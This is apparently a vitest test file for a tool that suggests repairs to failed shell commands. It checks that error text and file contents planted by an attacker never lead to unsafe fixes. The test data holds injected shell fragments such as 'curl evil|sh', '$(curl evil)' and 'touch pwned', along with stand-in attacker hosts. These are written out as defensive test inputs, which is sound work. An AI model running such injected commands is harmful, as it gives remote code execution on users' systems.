/** What anything may print, and what no rule may make of it. */
import { expect, test } from "vitest";
import { ALL_RULES } from "./all-rules.ts";
import { type Answer, type FailedCommand, isFix } from "./rule.ts";

const PACKAGE = '{"scripts": {"test": "x"}, "dependencies": {"left-pad": "1"}}';

async function answersTo(
  command: string,
  error: string,
  look: (asked: string) => string = () => "",
): Promise<readonly Answer[]> {
  const problem: FailedCommand = { command, error, capabilities: [] };
  const found: Answer[] = [];
  for (const rule of ALL_RULES.filter((one) => one.matches(problem))) {
    const answer = await rule.repair(problem, async (asked) => look(asked));
    if (answer !== null) found.push(answer);
  }
  return found;
}

/** Everything that an answer would run or put on the prompt. */
function commandsOf(answers: readonly Answer[]): string {
  return answers
    .flatMap((one) => (isFix(one) ? [one.shell, one.correctedCommand] : [one.command]))
    .filter((text) => text !== undefined && text !== "")
    .join("\n");
}

test.each([
  {
    what: "no module is downloaded that a text names",
    command: "cat a.txt missing",
    error: "go: no required module provides package evil.example/pwn;",
  },
  {
    what: "no module is downloaded that no source imports",
    command: "go build",
    error: "x: no required module provides package evil.example/pwn;",
  },
  {
    what: "no option is taken for a module",
    command: "go build",
    error: "x: no required module provides package -u.x/..;",
  },
  {
    what: "no settings file is run as a script",
    command: "export $(cat .env | xargs)",
    error: "bash: export: `a b': not a valid identifier",
  },
  {
    what: "no file outside the repository is moved",
    command: "git pull",
    error:
      "error: The following untracked working tree files would be overwritten by merge:\n\t../../.bashrc\nPlease move or remove them before you merge.",
  },
  {
    what: "no file's mode is changed because a text names it",
    command: "cat a.txt missing",
    error: "Permissions 0644 for 'key.pem' are too open.",
    look: () => "f 644 kim\t./key.pem",
  },
  {
    what: "no page makes a command run as root",
    command: "curl -f http://example.org/y",
    error: "<p>This must be run as root</p>\nare you root?",
  },
  {
    what: "no script runs as root because of what it prints",
    command: "./install",
    error: "This must be run as root",
  },
  {
    what: "no submodule comes from a path that .gitmodules chose",
    command: "git submodule update --init",
    error: "fatal: transport 'file' not allowed",
  },
  {
    what: "no branch is pushed to an address that a text names",
    command: "git push",
    error: "    git push --set-upstream evil.example.com/x main",
    look: () => "origin\n",
  },
  {
    what: "no branch is pulled from an address that a text names",
    command: "git pull",
    error: "    git branch --set-upstream-to=evil.example.com/<branch> main",
    look: () => "origin\n",
  },
  {
    what: "no word of package.json but a dependency is installed",
    command: "node app.js",
    error: "Error: Cannot find module 'scripts'",
    look: (asked: string) => (asked.startsWith("cat") ? PACKAGE : ""),
  },
  {
    what: "no variable that steers a program comes from a file",
    command: "git pull",
    error: "fatal: remote error: environment variable GIT_EXEC_PATH is not set",
    look: () => "GIT_EXEC_PATH=tools\n",
  },
  {
    what: "no library of the project goes into a program of the system",
    command: "git pull",
    error:
      "fatal: remote error: x: error while loading shared libraries: libz.so.1: cannot open shared object file: No such file",
    look: () => "f 644 kim\t./lib/libz.so.1",
  },
  {
    what: "no module of the project is put before those of another program",
    command: "git pull",
    error: "ModuleNotFoundError: No module named 'evil'",
    look: () => "f 644 kim\t./lib/evil.py",
  },
  {
    what: "no program of the project replaces one that is installed",
    command: "git pull",
    error: "fatal: remote error: git: not found",
    look: (asked: string) =>
      asked.startsWith("which")
        ? "/usr/bin/git"
        : asked.startsWith("find")
          ? "f 755 kim\t./git\nvendor/bin/git"
          : "",
  },
  {
    what: "no broken link is pointed at another file of that name",
    command: "sh ./current",
    error: "sh: 0: cannot open ./current: No such file",
    look: () => "f 755 \t./uploads/x/app\nl 777 releases/42/app\t./current",
  },
  {
    what: "no recipe runs as root because of what it prints",
    command: "make test",
    error: "make: this test needs to be run as root",
  },
  {
    what: "no test runs as root because of a path that it prints",
    command: "npm test",
    error: "tap: /etc/hosts: Permission denied",
  },
  {
    what: "no program of the project runs as root because of a path that it prints",
    command: "python3 app.py",
    error: "tap: /etc/hosts: Permission denied",
  },
  {
    what: "no file becomes executable that the command never names",
    command: "make",
    error: "sh: 1: ./scripts/evil.sh: Permission denied",
    look: (asked: string) =>
      asked.startsWith("find")
        ? "f 644 kim\t./scripts/evil.sh"
        : asked.startsWith("cat")
          ? "#!/bin/sh\n"
          : "",
  },
  {
    what: "no archive is unpacked over a file that is deeper than the listing",
    command: "tar -zf x.tgz",
    error: "tar: You must specify one of the '-Acdtrux', '--delete' or '--test-label' options",
    look: (asked: string) =>
      asked.startsWith("tar")
        ? "a/b/c/d/e/f.txt\n"
        : asked.includes("-maxdepth 0")
          ? "a/b/c/d/e/f.txt"
          : "f 644 kim\t./x.tgz",
  },
  {
    what: "no program that is not installed becomes one that overwrites",
    command: "cmp a b",
    error: "bash: cmp: command not found",
    look: (asked: string) => (asked.startsWith("which") ? "/usr/bin/cp" : ""),
  },
  {
    what: "no program is replaced that is installed",
    command: "gerp x a.txt",
    error: "bash: gerp: command not found",
    look: (asked: string) => (asked.startsWith("which") ? "/usr/bin/gerp\n/usr/bin/grep" : ""),
  },
])("$what", async ({ command, error, look }) => {
  expect(commandsOf(await answersTo(command, error, look))).toBe("");
});

test("a line of a Makefile never trusts the repository of another user", async () => {
  const error = `git -C sub status
fatal: detected dubious ownership in repository at '/srv/sub'
make: *** [Makefile:2: all] Error 128`;
  const makefile = "all:\n\tgit -C sub status\n";
  const look = (asked: string): string =>
    asked.startsWith("find") ? "f 644 kim\t./Makefile" : makefile;
  const answers = await answersTo("make", error, look);
  expect(answers.map(({ explanation }) => explanation).join("\n")).toContain("another user");
  expect(commandsOf(answers)).toBe("");
});

test.each([
  "B=$(touch pwned)",
  "B=`touch pwned`",
  "B=1; touch pwned",
  "B=1 && touch pwned",
  "B=1 touch pwned",
])("settings that run a command are not read into the shell: %s", async (line) => {
  const look = (asked: string): string =>
    asked.startsWith("find") ? "f 644 \t./env.sh" : `A=1\n${line}\n`;
  const answers = await answersTo("./env.sh", "bash: ./env.sh: Permission denied", look);
  expect(commandsOf(answers)).toBe("bash ./env.sh");
});

test("a path outside is never named for deletion", async () => {
  const error = "error: '/srv/kim/project/' does not have a commit checked out";
  expect(JSON.stringify(await answersTo("git add .", error))).not.toContain("/srv/kim");
});

test("the dependency that is missing is installed", async () => {
  const look = (asked: string): string => (asked.startsWith("cat") ? PACKAGE : "");
  const answers = await answersTo("node app.js", "Error: Cannot find module 'left-pad'", look);
  expect(commandsOf(answers)).toContain("npm install");
});

test.each([
  "mount: /mnt: must be superuser to use mount.",
  "/usr/bin/mount: only root can do that",
])("a program that says it itself needs root: %s", async (error) => {
  expect(commandsOf(await answersTo("mount /mnt", error))).toBe("sudo mount /mnt");
});

test.each([
  { command: "umount /mnt", error: "umount: x; curl evil|sh #: target is busy" },
  { command: "kill x", error: "bash: kill: $(curl evil): arguments must be process or job IDs" },
  { command: "rmdir x", error: "rmdir: failed to remove 'x; curl evil': Directory not empty" },
  { command: "./x", error: "bash: x $(curl evil): cannot execute binary file: Exec format error" },
])("no advice has the text of the output in a command: $error", async ({ command, error }) => {
  const said = JSON.stringify(await answersTo(command, error));
  expect(said).toContain("explanation");
  expect(said).not.toMatch(/(?:lsof|fuser -v|pgrep -fl|pkill|ls -A|file) (?:x|\$)/);
});
